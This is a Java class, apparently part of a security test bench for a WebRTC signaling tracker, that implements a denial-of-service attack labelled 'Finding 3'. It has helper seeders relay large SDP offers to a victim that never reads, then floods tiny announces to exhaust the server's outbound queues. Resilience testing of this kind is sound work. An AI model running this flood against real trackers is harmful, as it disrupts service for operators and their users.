package org.signaltracker.bench.attack;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * Finding 3: a victim connection with a small receive buffer joins {@code swarms} swarms and never reads;
 * one helper per swarm announces into it as a seeder with one large offer, which can only go to the victim
 * (the one leecher there), so the victim's receive buffer and then the server's queue for it fill with
 * relayed offers. Then the victim floods tiny announces as fast as the server takes them, still never
 * reading: every reply and failure the server produces for them has nowhere to go.
 */
final class StuckOutboundFlood implements Attack {

    /** Time for the server to relay the helpers' offers before the flood starts. */
    private static final long FILL_MILLIS = 1000;
    /** Tiny announces per write buffer of the flood. */
    private static final int FLOOD_BATCH = 512;

    @Override
    public String name() {
        return "flood-stuck-outbound";
    }

    @Override
    public Outcome run(AttackConfig config, RawClients clients, long deadlineNanos) throws IOException {
        String victim = Bystander.id('V');
        List<String> swarms = new ArrayList<>();
        ByteBuffer joins = ByteBuffer.allocateDirect(config.swarms() * 256);
        for (int i = 0; i < config.swarms(); i++) {
            swarms.add(Bystander.id('S'));
            joins.put(ClientFrames.text(announce(swarms.get(i), victim, "started", 1000, "")));
        }
        joins.flip();
        List<RawClients.Client> opened = clients.open(1,
                i -> new RawClients.Plan(true, joins, false, false, config.victimReceiveBufferBytes()), deadlineNanos);
        pump(clients, deadlineNanos, FILL_MILLIS / 2);

        String sdp = "v=0\\r\\n" + "a".repeat(Math.max(0, config.offerSdpBytes() - 7));
        List<ByteBuffer> offers = new ArrayList<>();
        for (String swarm : swarms) {
            String offer = ",\"offers\":[{\"offer\":{\"type\":\"offer\",\"sdp\":\"" + sdp + "\"},\"offer_id\":\""
                    + Bystander.id('O') + "\"}]";
            byte[] frame = ClientFrames.text(announce(swarm, Bystander.id('P'), "started", 0, offer));
            offers.add(ByteBuffer.allocateDirect(frame.length).put(frame).flip());
        }
        clients.open(swarms.size(), i -> new RawClients.Plan(true, offers.get(i), false, false, 0), deadlineNanos);
        pump(clients, deadlineNanos, FILL_MILLIS);
        long relayed = (long) swarms.size() * config.offerSdpBytes();

        byte[] tiny = ClientFrames.text("{\"action\":\"announce\",\"info_hash\":\"" + swarms.get(0) + "\",\"peer_id\":\""
                + victim + "\",\"numwant\":0}");
        ByteBuffer flood = ByteBuffer.allocateDirect(FLOOD_BATCH * tiny.length);
        for (int i = 0; i < FLOOD_BATCH; i++) {
            flood.put(tiny);
        }
        flood.flip();
        long sentBefore = clients.counts().bytesSent;
        if (!opened.isEmpty()) {
            clients.send(opened.get(0), flood, true);
        }
        clients.pumpUntil(deadlineNanos);
        long frames = (clients.counts().bytesSent - sentBefore) / tiny.length;
        return Outcome.figures(String.format("offers_to_victim=%d (%.1f MiB) flood_frames=%d victim=%s",
                swarms.size(), relayed / 1048576.0, frames,
                opened.isEmpty() || !opened.get(0).isOpen() ? "closed" : "open"));
    }

    private static void pump(RawClients clients, long deadlineNanos, long millis) throws IOException {
        clients.pumpUntil(Math.min(deadlineNanos, System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(millis)));
    }

    private static String announce(String infoHash, String peerId, String event, int left, String offers) {
        return "{\"action\":\"announce\",\"info_hash\":\"" + infoHash + "\",\"peer_id\":\"" + peerId + "\",\"event\":\""
                + event + "\",\"left\":" + left + ",\"uploaded\":0,\"downloaded\":0,\"numwant\":"
                + (offers.isEmpty() ? 0 : 1) + offers + "}";
    }
}
